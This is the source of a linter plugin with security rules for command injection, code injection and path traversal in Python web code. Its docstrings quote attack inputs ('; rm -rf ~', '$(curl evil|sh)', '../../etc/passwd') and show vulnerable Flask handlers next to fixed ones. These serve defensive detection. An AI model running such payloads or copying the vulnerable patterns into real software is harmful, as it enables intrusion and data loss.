"""SEC012-SEC014: request data reaching a shell, the interpreter, or the file system."""

from __future__ import annotations

import ast
from collections.abc import Iterator

from flake8_secure.analysis.context import ModuleContext
from flake8_secure.registry import Finding, Severity, register
from flake8_secure.rules.taint_base import TaintRule


@register
class CommandInjection(TaintRule):
    """## What it does
    Flags request data that reaches a shell command: `os.system`,
    `os.popen`, `subprocess.*` with `shell=True`, `pty.spawn`,
    `asyncio.create_subprocess_shell`, or the program name of an argument
    list (`subprocess.run([user_program, ...])`, `os.exec*`).  The data is
    followed through variables, string building, containers and functions
    of the same module, including wrappers that pass it on to a shell.

    ## Why is this bad?
    A shell parses its command line: `; rm -rf ~` or `$(curl evil|sh)` in
    a request parameter runs the attacker's commands with the server's
    privileges.

    ## Example
    ```python
    import subprocess
    from flask import Flask, request

    app = Flask(__name__)

    @app.route("/ping")
    def ping():
        host = request.args["host"]
        return subprocess.check_output(f"ping -c 1 {host}", shell=True)
    ```

    ## Use instead
    ```python
    import subprocess
    from flask import Flask, request

    app = Flask(__name__)

    @app.route("/ping")
    def ping():
        host = request.args["host"]
        return subprocess.check_output(["ping", "-c", "1", "--", host])
    ```

    `shlex.quote()` also makes a value safe for a shell (and only for a
    shell), as does a guard that ends the handler unless the value is in an
    allow-list or matches `re.fullmatch`.

    ## Options
    `--secure-extra-sources`, `--secure-extra-sanitizers`, `--secure-extra-sinks`.

    ## References
    - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
    - [subprocess: security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
    - [OWASP OS Command Injection Defense Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html)
    """

    code = "SEC012"
    name = "command-injection"
    category = "command"
    fix = "pass an argument list without a shell"
    cwe = (78,)
    severity = Severity.CRITICAL
    options = ("--secure-extra-sources", "--secure-extra-sanitizers", "--secure-extra-sinks")


@register
class CodeInjection(TaintRule):
    """## What it does
    Flags request data that reaches `eval`, `exec`, `compile`,
    `__import__`, `importlib.import_module`, or picks the attribute of a
    dynamic dispatch (`getattr(module, name)()`).

    ## Why is this bad?
    Evaluated text runs as Python inside the server: `__import__('os').system(...)`
    in a parameter is remote code execution.

    ## Example
    ```python
    from flask import Flask, request

    app = Flask(__name__)

    @app.route("/calc")
    def calc():
        return str(eval(request.args["expr"]))
    ```

    ## Use instead
    ```python
    import ast
    from flask import Flask, request

    app = Flask(__name__)

    @app.route("/calc")
    def calc():
        return str(ast.literal_eval(request.args["expr"]))
    ```

    `ast.literal_eval` accepts only literals; for dispatch, check the name
    against an allow-list first.

    ## Options
    `--secure-extra-sources`, `--secure-extra-sanitizers`, `--secure-extra-sinks`.

    ## References
    - [CWE-94: Code Injection](https://cwe.mitre.org/data/definitions/94.html)
    - [CWE-95: Eval Injection](https://cwe.mitre.org/data/definitions/95.html)
    - [ast.literal_eval](https://docs.python.org/3/library/ast.html#ast.literal_eval)
    """

    code = "SEC013"
    name = "code-injection"
    category = "code"
    fix = "never evaluate request data; parse it (ast.literal_eval, json) or dispatch through an allow-list"
    cwe = (94, 95)
    severity = Severity.CRITICAL
    options = ("--secure-extra-sources", "--secure-extra-sanitizers", "--secure-extra-sinks")

    def check(self, node: ast.Call, ctx: ModuleContext) -> Iterator[Finding]:
        found = list(super().check(node, ctx))
        yield from found
        # getattr(module, name)(...): the request picks which function runs.
        inner = node.func
        if found or not (isinstance(inner, ast.Call) and isinstance(inner.func, ast.Name)) \
                or not ctx.may_taint(self.category):
            return
        if inner.func.id == "getattr" and len(inner.args) >= 2:
            live = ctx.value(inner.args[1]).live_taint(self.category)
            if live:
                yield self.finding(node, source=live[0].label, line=live[0].line,
                                   sink="getattr(...)() dispatch", where="", fix=self.fix)


@register
class PathTraversal(TaintRule):
    """## What it does
    Flags request data used as a file path: `open`, `io.open`,
    `codecs.open`, `os.*` file functions, `shutil` copy/move/rmtree,
    `pathlib.Path` file methods on a path built from request data,
    `send_file`, the directory of `send_from_directory`, `FileResponse`.

    ## Why is this bad?
    `../../etc/passwd` (or an absolute path) in a parameter reads or
    overwrites files outside the directory the code meant to serve.

    ## Example
    ```python
    from flask import Flask, request

    app = Flask(__name__)

    @app.route("/report")
    def report():
        with open("reports/" + request.args["name"]) as fh:
            return fh.read()
    ```

    ## Use instead
    ```python
    from flask import Flask, request
    from werkzeug.utils import secure_filename

    app = Flask(__name__)

    @app.route("/report")
    def report():
        with open("reports/" + secure_filename(request.args["name"])) as fh:
            return fh.read()
    ```

    `secure_filename`, `os.path.basename` and `safe_join` clean a value for
    paths only; so does a guard ending the handler unless
    `path.resolve().is_relative_to(base)` (or the value has no `..`).

    ## Options
    `--secure-extra-sources`, `--secure-extra-sanitizers`, `--secure-extra-sinks`.

    ## References
    - [CWE-22: Path Traversal](https://cwe.mitre.org/data/definitions/22.html)
    - [werkzeug.utils.secure_filename](https://werkzeug.palletsprojects.com/en/stable/utils/#werkzeug.utils.secure_filename)
    - [OWASP Path Traversal](https://owasp.org/www-community/attacks/Path_Traversal)
    """

    code = "SEC014"
    name = "path-traversal"
    category = "path"
    fix = "use secure_filename() or check resolve().is_relative_to(base) first"
    cwe = (22,)
    severity = Severity.HIGH
    options = ("--secure-extra-sources", "--secure-extra-sanitizers", "--secure-extra-sinks")
